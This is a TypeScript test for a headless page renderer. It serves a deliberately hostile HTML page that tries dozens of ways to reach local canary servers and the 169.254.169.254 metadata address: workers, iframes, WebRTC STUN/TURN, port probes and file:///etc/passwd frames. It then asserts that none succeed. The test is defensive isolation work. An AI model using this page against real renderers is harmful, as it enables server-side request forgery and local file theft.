/** The hostile page, rendered as a node renders it: nothing of the canary is in the snapshot, and nothing of this machine. */
import assert from 'node:assert/strict'
import dgram from 'node:dgram'
import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import http from 'node:http'
import type net from 'node:net'
import { after, it } from 'node:test'
import { openRenderer } from '../../../../test/support/renderer.ts'

const MARK = 'canary-was-here'
const renderer = await openRenderer({ timeoutMs: 100_000 })
const reached: string[] = []

/** Answers everybody, readable from every origin, as HTML, script or style. */
async function openCanary(port: number, host: string): Promise<number> {
  const canary = http.createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' }).end(MARK)
  })
  canary.on('connection', () => reached.push(host))
  canary.listen(port, host)
  await once(canary, 'listening')
  after(() => canary.close())
  return (canary.address() as net.AddressInfo).port
}
const samePort = Number(new URL(renderer.originUrl).port)
await openCanary(samePort, '127.0.0.2')
const port = await openCanary(0, '127.0.0.1')
const udp = dgram.createSocket('udp4', () => reached.push('by a datagram'))
udp.bind(0, '0.0.0.0')
await once(udp, 'listening')
after(() => udp.close())
const udpPort = udp.address().port
const canary = `http://127.0.0.1:${port}`

const HEADERS: Record<string, string | string[]> = {
  'content-type': 'text/html',
  'content-security-policy-report-only': `default-src 'none'; report-uri ${canary}/csp; report-to canary`,
  'reporting-endpoints': `canary="${canary}/reports", default="${canary}/reports"`,
  'report-to': JSON.stringify({ group: 'canary', max_age: 60, endpoints: [{ url: `${canary}/reports` }] }),
  nel: JSON.stringify({ report_to: 'canary', max_age: 60, success_fraction: 1, failure_fraction: 1 }),
  link: [
    `<${canary}/link.js>; rel=preload; as=script`,
    `<${canary}>; rel=preconnect`,
    `<${canary}/link-module.js>; rel=modulepreload`,
    `<${canary}/link-next>; rel=next`,
    `<${canary}/link-prefetch>; rel=prefetch`,
  ],
  'alt-svc': `h3="127.0.0.1:${port}"; ma=60, h2="127.0.0.1:${port}"; ma=60`,
  'speculation-rules': `"${canary}/speculation-rules"`,
  sourcemap: `${canary}/source-map`,
  'document-policy': `force-load-at-top;report-to=canary`,
}

const HOSTS = [
  `127.0.0.1:${port}`,
  `127.0.0.2:${samePort}`,
  `localhost:${port}`,
  `app.localhost:${port}`,
  `canary.example:${samePort}`,
  `[::1]:${port}`,
  `[::ffff:127.0.0.1]:${port}`,
  `2130706433:${port}`,
  `0.0.0.0:${port}`,
  '169.254.169.254',
  'canary.example',
]

/** Tries every way to every host, each of which ends or has its second, and shows what it has seen. */
const PAGE = `<!doctype html>
<html>
<head>
<link rel="dns-prefetch" href="//127.0.0.1:${port}">
<link rel="preconnect" href="http://127.0.0.1:${port}">
<link rel="preconnect" href="http://127.0.0.2:${samePort}" crossorigin>
<link rel="prefetch" href="http://127.0.0.1:${port}/prefetch">
<link rel="preload" as="script" href="http://127.0.0.1:${port}/preload">
<link rel="modulepreload" href="http://127.0.0.1:${port}/modulepreload">
<link rel="stylesheet" href="http://127.0.0.1:${port}/style">
<link rel="icon" href="http://127.0.0.1:${port}/icon">
<link rel="manifest" href="http://127.0.0.1:${port}/manifest">
<script type="speculationrules">{"prefetch":[{"urls":["http://127.0.0.1:${port}/rules"]}],"prerender":[{"urls":["http://127.0.0.1:${port}/rules"]}]}</script>
<link rel="prerender" href="${canary}/prerender">
<link rel="search" type="application/opensearchdescription+xml" href="${canary}/search">
<link rel="compression-dictionary" href="${canary}/dictionary">
<link rel="alternate stylesheet" title="x" href="${canary}/alternate">
<link rel="preload" as="image" imagesrcset="${canary}/srcset 1x">
<script type="importmap">{"imports":{"mapped":"${canary}/mapped.js"},"integrity":{}}</script>
<script type="module">import "mapped"</script>
<script type="webbundle">{"source":"${canary}/bundle","scopes":["${canary}/"]}</script>
<meta http-equiv="Content-Security-Policy-Report-Only" content="script-src 'none'; report-uri ${canary}/csp">
<style>@import url(http://127.0.0.1:${port}/import); body { background: url(http://127.0.0.1:${port}/background) }
@font-face { font-family: x; src: url(http://127.0.0.1:${port}/font) } body { font-family: x }</style>
</head>
<body>text
<script>
const HOSTS = ${JSON.stringify(HOSTS)}
const PLAIN = HOSTS.map((host) => 'http://' + host + '/')
const second = () => new Promise((done) => setTimeout(done, 1000))

const styled = (css) => { const style = document.createElement('style'); style.textContent = css; document.head.append(style) }
const inFrame = (src) => element('iframe', { src })

const WAYS = {
  'mapped import': async (url) => { const map = element('script', { type: 'importmap' }); map.textContent = JSON.stringify({ imports: { ['m' + url]: url } }); return import('m' + url) },
  'speculation rules': (url) => { const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.textContent = JSON.stringify({ prefetch: [{ urls: [url], eagerness: 'immediate' }], prerender: [{ urls: [url], eagerness: 'immediate' }] }); document.head.append(rules) },
  '@import and @font-face': (url) => styled('@import url(' + url + ') layer(x); @import "' + url + '"; @font-face { font-family: y; src: url(' + url + ') } * { font-family: y }'),
  'SVG of all kinds': (url) => { const box = document.createElement('div'); box.innerHTML = '<svg><use href="' + url + '#x"/><feImage href="' + url + '"/><script href="' + url + '"><\\/script><foreignObject><img src="' + url + '"></foreignObject><a href="' + url + '"><animate attributeName="href" to="' + url + '"/></a><filter id="f"><feImage xlink:href="' + url + '"/></filter><rect fill="url(' + url + '#p)" filter="url(#f)"/></svg>'; document.body.append(box) },
  'XML with a style sheet': (url) => inFrame(URL.createObjectURL(new Blob(['<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="' + url + '"?><!DOCTYPE x [<!ENTITY e SYSTEM "' + url + '">]><x>&e;</x>'], { type: 'text/xml' }))),
  'forms, by get and to the top': (url) => { for (const [method, target] of [['get', 'a'], ['dialog', 'b'], ['post', '_blank']]) { const form = document.createElement('form'); Object.assign(form, { action: url, method, target }); form.enctype = 'text/plain'; document.body.append(form); form.requestSubmit() } },
  'later fetches': (url) => { window.fetchLater?.(url, { activateAfter: 0 }); addEventListener('pagehide', () => navigator.sendBeacon(url)) },
  'reports': (url) => { new ReportingObserver(() => {}).observe(); element('iframe', { src: url, csp: "default-src 'none'; report-uri " + url }); element('img', { src: '/', attributionsrc: url }) },
  'streams of sockets': async (url) => { if ('WebSocketStream' in window) await new WebSocketStream(url.replace('http', 'ws')).opened; for (const scheme of ['ws', 'wss']) new WebSocket(url.replace('http', scheme), ['a', 'b']) },
  'nested workers': (url) => {
    const inner = ['fetch(URL_, { mode: "no-cors" })', 'new EventSource(URL_)', 'new WebSocket(URL_.replace("http", "ws"))'].join(';').replaceAll('URL_', JSON.stringify(url))
    new Worker(URL.createObjectURL(new Blob(['new Worker(URL.createObjectURL(new Blob([' + JSON.stringify(inner) + '])))'])))
  },
  'module workers': (url) => { new Worker(URL.createObjectURL(new Blob(['import "' + url + '"'])), { type: 'module' }); new SharedWorker(URL.createObjectURL(new Blob(['importScripts("' + url + '")']))) },
  'audio worklet': async (url) => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(url),
  'identity and payment': (url) => { const quietly = (work) => Promise.resolve().then(work).catch(() => {}); quietly(() => navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: 'x' }] } })); quietly(() => new PaymentRequest([{ supportedMethods: url }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment()); quietly(() => navigator.joinAdInterestGroup?.({ owner: url, name: 'x', biddingLogicURL: url }, 10)); quietly(() => navigator.runAdAuction?.({ seller: url, decisionLogicURL: url })); quietly(() => sharedStorage.worklet.addModule(url)); quietly(() => document.browsingTopics()) },
  'notifications and media': (url) => { try { new Notification('x', { icon: url }) } catch {} ; navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: url }] }); navigator.registerProtocolHandler?.('web+x', '/%s'); navigator.serviceWorker.getRegistrations() },
  'frames of other schemes': (url) => { for (const src of ['file:///etc/passwd', 'file://' + url.slice(5), 'view-source:' + url, 'chrome://version', 'chrome://net-export', 'devtools://devtools/bundled/inspector.html?ws=' + url.slice(7), 'filesystem:' + url, 'jar:' + url, 'ftp' + url.slice(4), 'blob:' + url, 'about:blank#' + url, 'javascript:fetch("' + url + '",{mode:"no-cors"})', 'intent:' + url, 'googlechrome://navigate?url=' + url]) { inFrame(src); open(src, 'w' + Math.random()) } },
  'ports by the score': () => Promise.allSettled([1, 21, 22, 25, 53, 110, 139, 445, 2375, 3000, 3306, 5432, 6379, 8080, 9222, 9229, 11211, 27017].map((port) => fetch('http://127.0.0.1:' + port, { mode: 'no-cors' }))),
  'a debugger': () => Promise.allSettled([9222, 9229].flatMap((port) => ['/json/version', '/json/list'].map((path) => fetch('http://127.0.0.1:' + port + path)))),
  fetch: (url) => fetch(url),
  'fetch over https': (url) => fetch(url.replace('http:', 'https:'), { mode: 'no-cors' }),
  'keepalive fetch': (url) => fetch(url, { mode: 'no-cors', keepalive: true }),
  'fetch by redirect': (url) => fetch('/redirect?to=' + encodeURIComponent(url), { mode: 'no-cors' }),
  XMLHttpRequest: (url) => new Promise((done) => {
    const request = new XMLHttpRequest()
    request.onloadend = done
    request.open('GET', url)
    request.send()
  }),
  beacon: (url) => navigator.sendBeacon(url, 'x'),
  WebSocket: (url) => ended(new WebSocket(url.replace('http', 'ws')), 'close'),
  'secure WebSocket': (url) => ended(new WebSocket(url.replace('http', 'wss')), 'close'),
  EventSource: (url) => ended(new EventSource(url), 'error'),
  image: (url) => element('img', { src: url }),
  'image by redirect': (url) => element('img', { src: '/redirect?to=' + encodeURIComponent(url) }),
  script: (url) => element('script', { src: url }),
  'dynamic import': (url) => import(url),
  iframe: (url) => element('iframe', { src: url }),
  'iframe by redirect': (url) => element('iframe', { src: '/redirect?to=' + encodeURIComponent(url) }),
  'sandboxed iframe': (url) => element('iframe', { src: url, sandbox: 'allow-scripts' }),
  'iframe with a document of its own': (url) => element('iframe', { srcdoc: '<img src="' + url + '"><script src="' + url + '"><\\/script>' }),
  'blob iframe': (url) => element('iframe', { src: URL.createObjectURL(new Blob(['<img src="' + url + '">'], { type: 'text/html' })) }),
  'refreshing iframe': (url) => element('iframe', { srcdoc: '<meta http-equiv=refresh content="0;url=' + url + '">' }),
  'iframe that navigates itself': (url) => element('iframe', { srcdoc: '<script>location = ' + JSON.stringify(url) + '<\\/script>' }),
  object: (url) => element('object', { data: url }),
  embed: (url) => element('embed', { src: url }),
  video: (url) => element('video', { src: url, preload: 'auto' }),
  track: (url) => { const video = document.createElement('video'); video.innerHTML = '<track default src="' + url + '">'; document.body.append(video) },
  FontFace: (url) => new FontFace('f', 'url(' + url + ')').load(),
  form: (url) => { const frame = element('iframe', { name: 'form' + Math.random() }); const form = document.createElement('form'); Object.assign(form, { action: url, method: 'post' }); form.target = frame.name ?? ''; document.body.append(form); form.submit() },
  popup: (url) => open(url, '_blank'),
  'link with ping': (url) => { const link = document.createElement('a'); Object.assign(link, { href: '#', ping: url }); document.body.append(link); link.click() },
  'download link': (url) => { const link = document.createElement('a'); element('iframe', { name: 'download' }); Object.assign(link, { href: url, download: 'x', target: 'download' }); document.body.append(link); link.click() },
  worker: (url) => asWorker('/worker.js', url),
  'blob worker': (url) => asWorker(URL.createObjectURL(new Blob(['onmessage = async ({ data }) => { for (const url of data) await fetch(url, { mode: "no-cors" }).catch(() => {}); postMessage(1) }'])), url),
  'shared worker': (url) => new SharedWorker('data:text/javascript,fetch("' + url + '",{mode:"no-cors"})'),
  'service worker': (url) => navigator.serviceWorker.register('/redirect?to=' + encodeURIComponent(url)),
  worklet: (url) => CSS.paintWorklet?.addModule(url),
  WebTransport: (url) => new WebTransport(url.replace('http:', 'https:')).ready,
  'credentials in the URL': (url) => fetch(url.replace('//', '//u:p@'), { mode: 'no-cors' }),
  'other schemes': (url) => Promise.allSettled(['ftp', 'file', 'chrome', 'view-source:http', 'devtools', 'gopher'].map((scheme) => fetch(url.replace('http', scheme)))),
  'file iframe': () => element('iframe', { src: 'file:///etc/passwd' }),
  'background fetch': async (url) => (await navigator.serviceWorker.ready).backgroundFetch.fetch('x', [url]),
  'STUN over UDP': () => Promise.all(['127.0.0.1', '127.0.0.2'].map((host) => candidates('stun:' + host + ':${udpPort}'))),
  'TURN over UDP': () => candidates('turn:127.0.0.1:${udpPort}?transport=udp'),
  'TURN over TCP': () => candidates('turn:127.0.0.1:${port}?transport=tcp'),
}

function element(name, attributes) {
  const made = document.createElement(name)
  for (const [attribute, value] of Object.entries(attributes)) made.setAttribute(attribute, value)
  document.body.append(made)
  return made
}
function ended(source, event) {
  return new Promise((done) => source.addEventListener(event, () => { source.close(); done() }))
}
function asWorker(script, url) {
  const worker = new Worker(script)
  worker.postMessage([url])
  return ended(Object.assign(worker, { close: () => worker.terminate() }), 'message')
}
async function candidates(urls) {
  const connection = new RTCPeerConnection({ iceServers: [{ urls, username: 'u', credential: 'p' }] })
  connection.createDataChannel('x')
  await connection.setLocalDescription(await connection.createOffer())
  await second()
  connection.close()
}

async function hostile() {
  const names = Object.keys(WAYS)
  while (names.length > 0) {
    // An image or frame ends by itself; what is waited for ends or has its second.
    const attempts = names.splice(0, 16).flatMap((name) => PLAIN.map(async (url) => WAYS[name](url)))
    await Promise.all(attempts.map((attempt) => Promise.race([attempt.catch(() => {}), second()])))
  }
  await second()
}

window.prerenderReady = false
const seen = []
hostile().then(async () => {
  for (const frame of document.querySelectorAll('iframe,object,embed')) try { seen.push(frame.contentDocument?.documentElement?.textContent ?? '') } catch {}
  for (const host of HOSTS) try { seen.push(await (await fetch('http://' + host + '/')).text()) } catch {}
  const p = document.createElement('p')
  p.textContent = 'tried ' + Object.keys(WAYS).length + ' ' + seen.join(' ')
  document.body.append(p)
  prerenderReady = true
})
</script>
</body>
</html>`

it('reaches nothing, and its snapshot holds nothing that it should not', async () => {
  renderer.routes.set('/hostile', (_request, response) => response.writeHead(200, HEADERS).end(PAGE))
  renderer.routes.set('/redirect', (request, response) => {
    const to = new URL(request.url ?? '', 'http://x').searchParams.get('to') ?? ''
    response.writeHead(302, { location: to }).end()
  })
  const html = await renderer.html('/hostile')
  assert.match(html, /tried [56]\d /)
  assert.deepEqual(reached, [])
  assert(!html.includes(MARK))
  const [firstUser = 'root:'] = readFileSync('/etc/passwd', 'utf8').split('\n')
  assert(!html.includes(firstUser))
  // The other half: the canary does answer.
  assert.equal(await (await fetch(`http://127.0.0.1:${port}/`)).text(), MARK)
})
